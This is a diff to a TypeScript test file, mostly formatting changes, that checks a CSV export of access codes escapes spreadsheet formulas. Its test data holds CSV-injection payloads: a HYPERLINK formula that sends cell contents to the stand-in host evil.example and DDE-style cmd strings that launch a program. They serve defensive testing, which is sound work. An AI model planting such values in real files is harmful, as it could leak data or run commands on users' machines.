@@ -65,13 +65,15 @@ describe('csvCell', () => {
     expect(csvCell('BCDF-GHJK-LMNP-QRST')).toBe('BCDF-GHJK-LMNP-QRST');
     expect(csvCell(null)).toBe('');
     expect(csvCell(undefined)).toBe('');
-    expect(csvRow(['a', '=b', 'c,d'])).toBe("a,'=b,\"c,d\"\r\n");
+    expect(csvRow(['a', '=b', 'c,d'])).toBe('a,\'=b,"c,d"\r\n');
   });
 
   it('for any text: no cell starts a formula under either delimiter, and harmless text reads back unchanged', () => {
     const text = fc.oneof(
       fc.string({ unit: 'binary', maxLength: 30 }),
-      fc.array(fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '"', ',', ';', 'a', ' ', 'Å'), { maxLength: 12 }).map((parts) => parts.join('')),
+      fc
+        .array(fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '"', ',', ';', 'a', ' ', 'Å'), { maxLength: 12 })
+        .map((parts) => parts.join('')),
     );
     holdsSync(
       fc.property(fc.array(text, { minLength: 1, maxLength: 4 }), (cells) => {
@@ -98,9 +100,9 @@ describe('the bulk codes CSV (POST /api/v1/access-codes/bulk, Accept: text/csv)'
   let api: TestApi;
   const hostileNames = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
-    '+cmd|\' /C calc\'!A0',
-    '-2+3+cmd|\' /C calc\'!A0',
-    '@SUM(1+1)*cmd|\' /C calc\'!A0',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
     'Anna;=1+1',
     'Bo, "the boss"',
     '\t=1+1',
@@ -110,7 +112,8 @@ describe('the bulk codes CSV (POST /api/v1/access-codes/bulk, Accept: text/csv)'
   beforeAll(async () => {
     context = await createTestContext('sqlite');
     api = await createTestApi(context);
-    for (const [index, name] of hostileNames.entries()) await createPersonViaApi(api, { name, employeeId: `H-${index}` });
+    for (const [index, name] of hostileNames.entries())
+      await createPersonViaApi(api, { name, employeeId: `H-${index}` });
   });
   afterAll(async () => {
     await api.app.close();
@@ -118,7 +121,12 @@ describe('the bulk codes CSV (POST /api/v1/access-codes/bulk, Accept: text/csv)'
   });
 
   it('neutralises hostile names and keeps every row one record', async () => {
-    const response = await api.app.inject({ method: 'POST', url: '/api/v1/access-codes/bulk', headers: { ...api.admin, accept: 'text/csv' }, payload: {} });
+    const response = await api.app.inject({
+      method: 'POST',
+      url: '/api/v1/access-codes/bulk',
+      headers: { ...api.admin, accept: 'text/csv' },
+      payload: {},
+    });
     expect(response.statusCode).toBe(201);
     expect(response.headers['content-type']).toMatch(/^text\/csv/);
     expect(response.headers['cache-control']).toBe('no-store');
